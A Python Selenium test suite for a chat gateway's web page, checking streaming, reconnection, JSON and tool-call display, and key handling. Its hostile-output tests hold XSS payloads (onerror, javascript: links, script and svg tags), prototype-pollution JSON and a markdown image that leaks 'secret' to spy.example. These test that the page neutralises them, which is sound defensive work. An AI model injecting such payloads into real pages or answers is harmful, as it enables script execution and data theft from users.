"""The chat page in a real browser: what it shows is what the stream holds, however often the connection goes."""

import asyncio
import json
import urllib.request
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import ExitStack
from dataclasses import dataclass
from typing import Any, Self
from urllib.parse import urljoin, urlsplit

import pytest
import pytest_asyncio
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.select import Select

from tests.browser import browser, need_browser
from tests.conftest import StartSystem
from tests.credentials import AUDIENCE, JWT_SECRET, make_key, run_headrace, token
from tests.fakes.answer import Answer, ToolCall
from tests.system import System

WORDS = [f"word{i} " for i in range(400)]
SLOW = Answer(deltas=WORDS, delay_s=0.02)
BRIEF = Answer(deltas=WORDS[:200], delay_s=0.02)
ENDED = ("done", "error", "cancelled")


class Page:
    """The page as a user has it. Selenium blocks, so everything runs in a thread."""

    def __init__(self, driver: Chrome, url: str) -> None:
        self.driver = driver
        self.url = url

    async def open(self) -> None:
        await asyncio.to_thread(self.driver.get, self.url)
        await self.until(self._models_are_there)

    def element(self, test_id: str) -> WebElement:
        return self.driver.find_element(By.CSS_SELECTOR, f'[data-testid="{test_id}"]')

    async def text_of(self, test_id: str) -> str:
        return await asyncio.to_thread(lambda: self.element(test_id).text)

    async def click(self, test_id: str) -> None:
        await asyncio.to_thread(lambda: self.element(test_id).click())

    async def script(self, source: str) -> Any:
        return await asyncio.to_thread(self.driver.execute_script, source)

    async def answer_as(self, form: str, schema: str | None = None) -> None:
        """In the options: ``text``, ``JSON`` or ``JSON by schema``."""

        def choose() -> None:
            if not self.element("answer-as").is_displayed():
                self.element("options").click()
            Select(self.element("answer-as")).select_by_visible_text(form)
            if schema is not None:
                self.element("schema").clear()
                self.element("schema").send_keys(schema)

        await asyncio.to_thread(choose)

    async def ask(self, prompt: str, *, model: str) -> None:
        await self.until(lambda: self._choose(model))
        await asyncio.to_thread(lambda: self.element("prompt").send_keys(prompt, Keys.ENTER))

    async def raw_text(self) -> str:
        return str(await self.script("return window.headraceText ?? ''"))

    async def shown(self) -> "Shown":
        return Shown(**await self.script(_SHOWN))

    async def until_shown(self, condition: Callable[["Shown"], bool]) -> "Shown":
        async def is_met() -> bool:
            return condition(await self.shown())

        await self.until(is_met)
        return await self.shown()

    async def open_stream(self, stream_id: str) -> None:
        """Opens a stream that was asked for elsewhere, from the list."""
        entry = {
            "id": stream_id,
            "title": "Elsewhere",
            "at": 0,
            "state": "queued",
            "choice": {},
            "messages": [{"role": "user", "content": "Elsewhere"}],
            "streamUrl": f"/chat/stream/{stream_id}",
            "statusUrl": f"/chat/{stream_id}",
        }
        await self.script(f"localStorage.setItem('headrace.streams', JSON.stringify([{json.dumps(entry)}]))")
        await self.open()
        await self.click("history-item")
        assert await self.until_state(*ENDED) == "done"

    async def figures(self) -> dict[str, int]:
        await asyncio.sleep(0.1)  # they are shown with the next frame
        return {name: int(await self.text_of(name)) for name in ("connections", "events", "duplicates")}

    async def entry(self) -> dict[str, Any]:
        """The newest stream in this browser's list."""
        stored = await self.script("return localStorage.getItem('headrace.streams')")
        newest: dict[str, Any] = json.loads(stored)[0]
        return newest

    async def status(self) -> dict[str, Any]:
        """What the gateway says of that stream, asked past the browser."""
        url = urljoin(self.url, (await self.entry())["statusUrl"])
        return await asyncio.to_thread(_get_json, url)

    async def until_state(self, *states: str, timeout_s: float = 25) -> str:
        seen = ""

        async def reached() -> bool:
            nonlocal seen
            seen = await self.text_of("answer-state")
            return seen in states

        await self.until(reached, timeout_s=timeout_s)
        return seen

    async def until_longer(self, than: int) -> None:
        async def is_longer() -> bool:
            return len(await self.raw_text()) > than

        await self.until(is_longer)

    async def until(self, condition: Callable[[], Awaitable[bool]], *, timeout_s: float = 15) -> None:
        async with asyncio.timeout(timeout_s):
            while not await condition():
                await asyncio.sleep(0.03)

    async def _models_are_there(self) -> bool:
        return await asyncio.to_thread(lambda: self.element("model").is_enabled())

    async def _choose(self, model: str) -> bool:
        """False, with the page loaded anew, while the model is not offered."""
        chosen = await asyncio.to_thread(self.driver.execute_script, _CHOOSE, model)
        if not chosen:
            await asyncio.sleep(0.3)
            await self.open()
        return bool(chosen)


@dataclass(frozen=True, kw_only=True)
class Shown:
    """What is to be seen of the newest answer; ``calls``: each tool's name and arguments."""

    tree: str
    raw: str
    calls: list[list[str]]
    reasoning: str
    refusal: str
    footer: str

    @property
    def value(self) -> Any:
        return json.loads(self.tree or "null")


_SHOWN = """
const answer = [...document.querySelectorAll(".message.assistant")].at(-1);
const text = (selector) => {
  const found = answer?.querySelector(selector);
  return found?.checkVisibility() ? found.textContent : "";
};
const folded = (selector, inner) => text(selector) && answer.querySelector(inner).textContent;
return {
  tree: text(".tree"),
  raw: folded(".raw", ".raw pre"),
  calls: [...(answer?.querySelectorAll(".call") ?? [])].map((call) =>
    [call.querySelector("code").textContent, call.querySelector("pre").textContent]),
  reasoning: folded(".reasoning", ".reasoning .said"),
  refusal: text(".refusal"),
  footer: text("footer"),
};
"""

_CHOOSE = """
const select = document.querySelector('[data-testid="model"]');
const ids = Array.from(select.options, (option) => option.value);
const any = arguments[0].split("/")[0] + "/*";
const value = [arguments[0], any].find((id) => ids.includes(id));
if (!value) return false;
select.value = value;
const name = document.querySelector('[data-testid="model-name"]');
if (value === any) name.value = arguments[0].slice(any.length - 1);
select.dispatchEvent(new Event("change"));
return true;
"""


def _get_json(url: str) -> dict[str, Any]:
    with urllib.request.urlopen(url, timeout=10) as response:
        body: dict[str, Any] = json.load(response)
        return body


class CuttingProxy:
    """TCP between the browser and a gateway, whose connections can be cut as a network cuts them."""

    def __init__(self, upstream_url: str) -> None:
        self.upstream = urlsplit(upstream_url)
        self.refused = 0
        #: New connections are answered as a load balancer does during a deploy.
        self.is_deploying = False
        self._writers: set[asyncio.StreamWriter] = set()
        self._server: asyncio.Server | None = None

    async def __aenter__(self) -> Self:
        self._server = await asyncio.start_server(self._accept, "127.0.0.1", 0)
        return self

    async def __aexit__(self, *exception: object) -> None:
        if self._server:
            self._server.close()
        self.cut()
        while self._writers:
            await asyncio.sleep(0.01)

    @property
    def url(self) -> str:
        assert self._server
        return f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}"

    def cut(self) -> int:
        """How many connections there were."""
        writers = list(self._writers)
        for writer in writers:
            writer.transport.abort()
        return len(writers)

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if self.is_deploying:
            self.refused += 1
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            writer.close()
            return
        there, back = await asyncio.open_connection(self.upstream.hostname, self.upstream.port)
        await asyncio.gather(self._pump(reader, back), self._pump(there, writer))

    async def _pump(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._writers.add(writer)
        try:
            while data := await reader.read(65_536):
                writer.write(data)
                await writer.drain()
        except OSError:
            pass  # cut
        finally:
            self._writers.discard(writer)
            writer.close()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def chromium() -> AsyncIterator[Chrome]:
    need_browser()
    with ExitStack() as stack:
        driver = await asyncio.to_thread(stack.enter_context, browser())
        yield driver
        await asyncio.to_thread(stack.close)


@pytest.fixture
async def driver(chromium: Chrome) -> AsyncIterator[Chrome]:
    """The same browser for every test, each time without a past."""
    yield chromium
    everything = {"origin": "*", "storageTypes": "all"}
    await asyncio.to_thread(chromium.execute_cdp_cmd, "Storage.clearDataForOrigin", everything)
    await asyncio.to_thread(chromium.get, "about:blank")


@pytest.fixture
async def page(driver: Chrome, system: System) -> Page:
    page = Page(driver, system.gateways[0].url)
    await page.open()
    return page


async def test_an_answer_streams_to_its_end(page: Page) -> None:
    await page.ask("Hello, what is a headrace?", model="demo/demo")
    await page.until_longer(40)
    assert await page.text_of("answer")
    assert await page.until_state(*ENDED) == "done"

    status = await page.status()
    assert await page.raw_text() == status["text"] != ""
    assert (await page.figures())["connections"] == 1
    assert (await page.figures())["duplicates"] == 0
    log = await asyncio.to_thread(page.driver.get_log, "browser")
    assert [line["message"] for line in log if line["level"] == "SEVERE"] == []


async def test_a_cut_connection_costs_nothing(page: Page, system: System) -> None:
    system.fake.play("slow", SLOW)
    await page.ask("Count", model="openai/slow")
    for _ in range(3):
        await page.until_state("streaming")
        before = len(await page.raw_text())
        await page.until_longer(before)
        await page.click("cut")
        await page.until_state("reconnecting")
        assert len(await page.raw_text()) < len("".join(WORDS))
    assert await page.until_state(*ENDED) == "done"

    assert await page.raw_text() == (await page.status())["text"] == "".join(WORDS)
    figures = await page.figures()
    assert (figures["connections"], figures["duplicates"]) == (4, 0)
    assert await page.text_of("last-id") == f"{(await page.text_of('last-id')).split('-')[0]}-{figures['events']}"


async def test_keep_cutting_cuts_by_itself(page: Page, system: System) -> None:
    system.fake.play("brief", BRIEF)
    await page.ask("Count", model="openai/brief")
    await page.script("document.querySelector('[data-testid=\"keep-cutting\"]').click()")
    assert await page.until_state(*ENDED) == "done"
    assert await page.raw_text() == "".join(WORDS[:200])
    figures = await page.figures()
    assert figures["connections"] >= 2
    assert figures["duplicates"] == 0


async def test_a_lost_network_costs_nothing(driver: Chrome, system: System) -> None:
    system.fake.play("slow", SLOW)
    async with CuttingProxy(system.gateways[0].url) as proxy:
        page = Page(driver, proxy.url)
        await page.open()
        await page.ask("Count", model="openai/slow")
        for _ in range(3):
            await page.until_state("streaming")
            await page.until_longer(len(await page.raw_text()) + 20)
            assert proxy.cut() > 0
            await page.until_state("reconnecting")
        assert await page.until_state(*ENDED) == "done"

        assert await page.raw_text() == (await page.status())["text"] == "".join(WORDS)
        figures = await page.figures()
        assert (figures["connections"], figures["duplicates"]) == (4, 0)


async def test_a_deploy_behind_a_load_balancer_costs_nothing(driver: Chrome, system: System) -> None:
    """A 502 makes EventSource give up for good; the page does not."""
    system.fake.play("brief", BRIEF)
    async with CuttingProxy(system.gateways[0].url) as proxy:
        page = Page(driver, proxy.url)
        await page.open()
        await page.ask("Count", model="openai/brief")
        await page.until_longer(50)
        proxy.is_deploying = True
        proxy.cut()
        await page.until(lambda: _is(lambda: proxy.refused >= 3))
        assert await page.text_of("answer-state") == "reconnecting"
        proxy.is_deploying = False
        assert await page.until_state(*ENDED) == "done"

        assert await page.raw_text() == "".join(WORDS[:200])
        assert (await page.figures())["duplicates"] == 0


async def _is(condition: Callable[[], bool]) -> bool:
    return condition()


async def test_stop_keeps_what_there_is(page: Page, system: System) -> None:
    system.fake.play("slow", SLOW)
    await page.ask("Count", model="openai/slow")
    await page.until_longer(50)
    await page.click("stop")
    assert await page.until_state(*ENDED) == "cancelled"

    status = await page.status()
    assert status["finish_reason"] == "cancelled"
    text = await page.raw_text()
    assert text == status["text"]
    assert 50 < len(text) < len("".join(WORDS))
    assert (await page.text_of("answer")).startswith("word0 word1")


HOSTILE = (
    "Look: <img src=x onerror=alert(1)> <b onclick=alert(2)>bold</b>\n\n",
    "<script>alert(3)</script>\n\n<iframe src='javascript:alert(4)'></iframe>\n\n<svg onload=alert(5)></svg>\n\n",
    "[run](javascript:alert(6)) [again](&#106;avascript:alert(7)) <a href='javascript:alert(8)'>raw</a> ",
    "[data](data:text/html,<script>alert(9)</script>)\n\n",
    '![spy](https://spy.example/?q=secret) ![x](x onerror=alert(10)) ["onmouseover=alert(11)//](https://a.example)\n\n',
    '[fine](https://fine.example/?a=1&b=2 "a title")\n',
)

_INSPECT = """
const all = [...document.querySelectorAll('.message *')];
return {
  tags: [...new Set(all.map((e) => e.tagName))],
  handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith("on") || name === "style"),
  links: all.filter((e) => e.tagName === "A").map((e) => [e.getAttribute("href"), e.rel]),
};
"""


async def test_a_hostile_answer_is_only_text(page: Page, system: System) -> None:
    """Without the gateway's CSP, so that the page has to hold alone."""
    await asyncio.to_thread(page.driver.execute_cdp_cmd, "Page.setBypassCSP", {"enabled": True})
    try:
        await page.open()
        reasoning = ("<img src=x onerror=alert(12)>",)
        system.fake.play("hostile", Answer(deltas=HOSTILE, reasoning=reasoning, delay_s=0.05))
        await page.ask("<img src=x onerror=alert(13)>", model="openai/hostile")
        assert await page.until_state(*ENDED) == "done"
        await asyncio.sleep(0.3)
        with pytest.raises(NoAlertPresentException):
            await asyncio.to_thread(lambda: page.driver.switch_to.alert)
    finally:
        await asyncio.to_thread(page.driver.execute_cdp_cmd, "Page.setBypassCSP", {"enabled": False})

    assert await page.raw_text() == "".join(HOSTILE)
    shown = await page.text_of("answer")
    assert "<script>alert(3)</script>" in shown
    found = await page.script(_INSPECT)
    assert not {"IMG", "SCRIPT", "IFRAME", "SVG", "svg", "B"} & set(found["tags"])
    assert found["handlers"] == []
    links = {href: rel for href, rel in found["links"] if href}
    assert set(links) == {"https://spy.example/?q=secret", "https://a.example", "https://fine.example/?a=1&b=2"}
    assert all("noopener" in rel for rel in links.values())


async def test_a_reload_reads_on_and_the_list_reopens(page: Page, system: System) -> None:
    system.fake.play("brief", Answer(deltas=WORDS[:100], delay_s=0.02))
    await page.ask("Count to a hundred", model="openai/brief")
    await page.until_longer(50)
    await page.open()  # in the middle
    assert await page.until_state(*ENDED) == "done"
    assert await page.raw_text() == "".join(WORDS[:100])

    await page.open()
    await page.click("new-chat")
    assert await page.text_of("history-item") != ""
    assert await page.script("return document.querySelectorAll('.message').length") == 0
    await page.click("history-item")
    assert await page.until_state(*ENDED) == "done"
    assert await page.raw_text() == (await page.status())["text"] == "".join(WORDS[:100])
    assert "word99" in await page.text_of("answer")
    assert (await page.entry())["title"] == "Count to a hundred"


async def test_a_deleted_stream_says_so(page: Page, system: System) -> None:
    system.fake.play("brief", Answer(deltas=WORDS[:5]))
    await page.ask("Count", model="openai/brief")
    assert await page.until_state(*ENDED) == "done"
    url = f"{page.url}/chat/{(await page.entry())['id']}"
    delete = urllib.request.Request(url, method="DELETE")
    await asyncio.to_thread(lambda: urllib.request.urlopen(delete, timeout=10).close())

    await page.click("new-chat")
    await page.click("history-item")
    assert await page.until_state(*ENDED) == "error"
    assert "deleted" in await page.text_of("problem")


async def test_an_error_of_the_stream_is_not_a_lost_connection(page: Page, system: System) -> None:
    system.fake.play("busy", Answer(status=429))
    await page.ask("Hello", model="openai/busy")
    assert await page.until_state(*ENDED) == "error"
    assert "provider_rate_limited" in await page.text_of("problem")
    assert (await page.figures())["connections"] == 1
    assert (await page.status())["finish_reason"] == "error"


async def test_a_conversation_carries_what_was_said(page: Page, system: System) -> None:
    system.fake.play("brief", Answer(deltas=["One."]))
    await page.ask("First", model="openai/brief")
    assert await page.until_state(*ENDED) == "done"
    await page.ask("Second", model="openai/brief")
    calls = await system.fake.wait_calls(len(system.fake.calls) or 1)
    await page.until(lambda: _is(lambda: calls[-1].prompt == "Second"))
    said = [(m["role"], m["content"]) for m in calls[-1].request["messages"]]
    assert said == [("user", "First"), ("assistant", "One."), ("user", "Second")]


# --- JSON, tools, reasoning, refusals

SCENES = {"title": "The mill", "scenes": [{"place": "lake", "id": 12345678901234567890}, {"place": "gate"}]}
AS_TEXT = json.dumps(SCENES)
FIRST_SCENE = AS_TEXT.index(', {"place": "gate"')
HALF = {"title": SCENES["title"], "scenes": SCENES["scenes"][:1]}


async def test_json_is_shown_value_by_value_and_a_reload_shows_the_same(page: Page, system: System) -> None:
    gate = asyncio.Event()
    system.fake.play("scenes", Answer(deltas=[AS_TEXT[:FIRST_SCENE], AS_TEXT[FIRST_SCENE:]], gate=gate, gate_after=1))
    await page.answer_as("JSON by schema", '{"title": "Scenes of a story", "type": "object"}')
    await page.ask("Scenes, please", model="openai/scenes")
    for _ in range(2):
        half = await page.until_shown(lambda shown: bool(shown.tree))
        assert (half.value, half.raw) == (HALF, AS_TEXT[:FIRST_SCENE])
        await page.open()
    gate.set()
    assert await page.until_state(*ENDED) == "done"
    whole = await page.shown()
    assert whole.value == SCENES
    assert "12345678901234567890" in whole.tree
    assert whole.raw == await page.raw_text() == AS_TEXT
    format_ = {"name": "Scenes_of_a_story", "schema": {"title": "Scenes of a story", "type": "object"}}
    assert system.fake.calls[-1].request["response_format"] == {"type": "json_schema", "json_schema": format_}

    await page.click("new-chat")
    await page.click("history-item")
    assert await page.until_state(*ENDED) == "done"
    assert (await page.shown()).value == SCENES


_WATCH_TREE = """
window.trees = new Set();
new MutationObserver(() => {
  const tree = document.querySelector(".tree");
  if (tree?.textContent) window.trees.add(tree.textContent);
}).observe(document.getElementById("messages"), { childList: true, subtree: true, characterData: true });
"""


@pytest.mark.parametrize("form", ["JSON", "JSON by schema"])
async def test_the_demo_answers_with_json(page: Page, form: str) -> None:
    await page.script(_WATCH_TREE)
    await page.answer_as(form)
    await page.ask("Think, then tell me a story", model="demo/demo")
    assert await page.until_state(*ENDED) == "done"
    shown = await page.shown()
    status = await page.status()
    assert shown.value == status["json"] == json.loads(status["text"])
    assert shown.reasoning == status["reasoning"] != ""
    trees = [json.loads(tree) for tree in await page.script("return [...window.trees]")]
    assert {tree["title"] for tree in trees} == {shown.value["title"]}
    assert trees[-1] == shown.value


@pytest.mark.parametrize("schema", ["{oops", "[1]"])
async def test_a_schema_that_is_none_is_not_sent(page: Page, system: System, schema: str) -> None:
    system.fake.play("never", Answer())
    await page.answer_as("JSON by schema", schema)
    await page.ask("Hello", model="openai/never")
    await page.until(lambda: _has_text(page, "schema-problem"))
    assert await page.script("return document.querySelectorAll('.message').length") == 0
    assert await page.script("return document.getElementById('prompt').value") == "Hello"
    await page.answer_as("text")
    assert not await page.text_of("schema-problem")


async def _has_text(page: Page, test_id: str) -> bool:
    return bool(await page.text_of(test_id))


async def test_an_answer_that_is_not_the_json_asked_for_can_be_read(page: Page, system: System) -> None:
    system.fake.play("chatty", Answer(deltas=["I would rather ", "not."]))
    await page.answer_as("JSON")
    await page.ask("Hello", model="openai/chatty")
    assert await page.until_state(*ENDED) == "error"
    assert "schema_violation" in await page.text_of("problem")
    assert "I would rather not." in await page.text_of("answer")  # unfolded
    assert (await page.shown()).raw == "I would rather not."
    await page.script("document.querySelector('.problem button').click()")  # asks for the same once more
    assert await page.until_state(*ENDED) == "error"
    asked = [call.request["response_format"] for call in system.fake.calls if call.model == "chatty"]
    assert asked == [{"type": "json_object"}] * 2


async def test_what_came_around_the_json_is_counted(page: Page, system: System) -> None:
    system.fake.play("fenced", Answer(deltas=["Sure!\n```json\n", '{"a": 1}', "\n```"]))
    await page.answer_as("JSON")
    await page.ask("Hello", model="openai/fenced")
    assert await page.until_state(*ENDED) == "done"
    assert (await page.shown()).value == {"a": 1}
    assert "Ignored 15 characters" in await page.text_of("answer")


TOOLS = [{"type": "function", "function": {"name": name, "parameters": {"type": "object"}}} for name in ("a", "b")]
HALF_CALL = ToolCall("c1", "get_weather", ('{"city": ', '"Bé'))


async def test_a_tool_call_is_shown_while_it_comes(page: Page, system: System) -> None:
    system.fake.play("calling", Answer(deltas=["One moment."], tools=(HALF_CALL,), end="hang"))
    await page.ask("Weather?", model="openai/calling")
    shown = await page.until_shown(lambda shown: shown.calls == [["get_weather", '{"city": "Bé']])
    assert "One moment." in await page.text_of("answer")
    await page.click("stop")
    assert await page.until_state(*ENDED) == "cancelled"
    assert (await page.shown()).calls == shown.calls


async def test_whole_tool_calls_stand_apart(page: Page, system: System) -> None:
    calls = (
        ToolCall("c1", "get_weather", ('{"city":', '"Bérn", "id": 12345678901234567890}')),
        ToolCall("c2", "now", ("{}",)),
    )
    system.fake.play("calls", Answer(deltas=(), tools=calls))
    await page.open_stream(await system.post("calls", tools=TOOLS))
    arguments = '{\n  "city": "Bérn",\n  "id": 12345678901234567890\n}'
    assert (await page.shown()).calls == [["get_weather", arguments], ["now", "{}"]]
    assert "requested a tool call" in (await page.shown()).footer


async def test_the_demo_calls_a_tool(page: Page, system: System) -> None:
    function = {"name": "get_weather", "parameters": {"properties": {"city": {"type": "string"}}}}
    tools = [{"type": "function", "function": function}]
    await page.open_stream(await system.post("demo", "Think of it", provider="demo", tools=tools))
    shown = await page.shown()
    assert shown.calls == [["get_weather", '{\n  "city": "lake"\n}']]
    assert shown.reasoning


async def test_a_refusal_is_marked_as_one(page: Page, system: System) -> None:
    system.fake.play("prim", Answer(deltas=(), refusal=("I cannot ", "do that.")))
    await page.ask("Hello", model="openai/prim")
    assert await page.until_state(*ENDED) == "done"
    shown = await page.shown()
    assert shown.refusal == "The model refusesI cannot do that."
    assert "the model refused" in shown.footer


async def test_the_footer_names_who_answered(page: Page, system: System) -> None:
    system.fake.play("gone", Answer(status=404))
    system.fake.play("there", Answer(deltas=["Here."]))
    await page.open_stream(await system.post("gone", fallbacks=["ollama/there"]))
    assert (await page.shown()).footer.startswith("ollama/there · ")


async def test_another_attempt_shows_nothing_of_the_one_before(driver: Chrome, start_system: StartSystem) -> None:
    system = await start_system(gateways=1, workers=1, lease_s=1)
    told = Answer(deltas=['{"a": 1, "b": 2, '], reasoning=["Hm."], refusal=["No."], tools=(HALF_CALL,), end="hang")
    system.fake.play("lost", told, Answer(deltas=['{"c": 3}']))
    page = Page(driver, system.url)
    await page.open()
    await page.answer_as("JSON")
    await page.ask("Hello", model="openai/lost")
    before = await page.until_shown(lambda shown: bool(shown.calls and shown.tree))
    assert before.value == {"a": 1, "b": 2}
    assert (before.reasoning, before.refusal) == ("Hm.", "The model refusesNo.")
    system.workers[0].stop()
    system.workers[0].start()
    assert await page.until_state(*ENDED) == "done"
    after = await page.shown()
    assert (after.value, after.raw) == ({"c": 3}, '{"c": 3}')
    assert (after.reasoning, after.refusal, after.calls) == ("", "", [])


EVIL = "<img src=x onerror=alert(1)>"
EVIL_JSON = {EVIL: EVIL, "__proto__": {"polluted": 1}, "a": {"__proto__": {"polluted": 1}, "constructor": [EVIL]}}


async def test_hostile_json_calls_and_refusals_are_only_text(page: Page, system: System) -> None:
    tools = (ToolCall("c", EVIL, (json.dumps({EVIL: EVIL}),)),)
    system.fake.play("evil", Answer(deltas=[json.dumps(EVIL_JSON)], refusal=[EVIL], reasoning=[EVIL], tools=tools))
    await page.answer_as("JSON")
    await page.ask(EVIL, model="openai/evil")
    assert await page.until_state(*ENDED) == "done"
    shown = await page.shown()
    assert shown.value == EVIL_JSON
    assert shown.calls == [[EVIL, json.dumps({EVIL: EVIL}, indent=2)]]
    assert EVIL in shown.refusal
    assert shown.reasoning == EVIL
    found = await page.script(_INSPECT)
    assert "IMG" not in found["tags"]
    assert found["handlers"] == []
    assert await page.script("return ({}).polluted ?? null") is None


async def test_a_gateway_that_asks_for_a_key(driver: Chrome, start_system: StartSystem) -> None:
    """A wrong one, a right one, a reload, one that is revoked in the middle, and one that is forgotten."""
    boot = {"Authorization": f"Bearer {token('boot')}"}
    jwt_settings = {"jwt_secret": JWT_SECRET, "jwt_audience": AUDIENCE}
    system = await start_system(gateways=1, workers=1, auth="keys,jwt", credentials=boot, **jwt_settings)
    key, next_key = await make_key(system, "alice"), await make_key(system, "alice")
    page = Page(driver, system.url)

    async def is_asked(problem: str) -> bool:
        return problem in (await page.text_of("key-problem")) and await asyncio.to_thread(
            page.element("use-key").is_displayed
        )

    async def give(text: str) -> None:
        await asyncio.to_thread(page.element("key").send_keys, text, Keys.ENTER)

    await asyncio.to_thread(driver.get, page.url)
    await page.until(lambda: is_asked(""))
    await give("hr-000000000000-wrong")
    await page.until(lambda: is_asked("is unknown or was revoked"))
    await give(key)
    await page.until(page._models_are_there)
    system.fake.play("told", BRIEF)
    await page.ask("Tell me", model="openai/told")
    await page.until_longer(30)

    await asyncio.to_thread(driver.refresh)  # the same tab goes on, with the key and with the answer
    await page.until(page._models_are_there)
    assert await page.until_state(*ENDED) == "done"
    told = await page.raw_text()
    assert told == "".join(WORDS[:200])

    key_id = key.split("-")[1]
    assert (await asyncio.to_thread(run_headrace, system, "keys", "revoke", key_id)).returncode == 0

    async def is_refused() -> bool:
        answer = await system.http.get(f"{system.url}/v1/models", headers={"Authorization": f"Bearer {key}"})
        return answer.status_code == 401

    await page.until(is_refused)
    await page.ask("And more", model="openai/told")
    await page.until(lambda: is_asked("is unknown or was revoked"))
    await give(next_key)
    assert await page.until_state(*ENDED) == "done"

    everything = (
        "return document.documentElement.outerHTML + location.href + JSON.stringify(localStorage) + key.value"
    )
    seen = await page.script(everything)
    assert key not in seen
    assert next_key not in seen
    await page.click("forget-key")
    await page.until(lambda: is_asked(""))
    assert await page.script("return sessionStorage.getItem('headrace.key')") is None
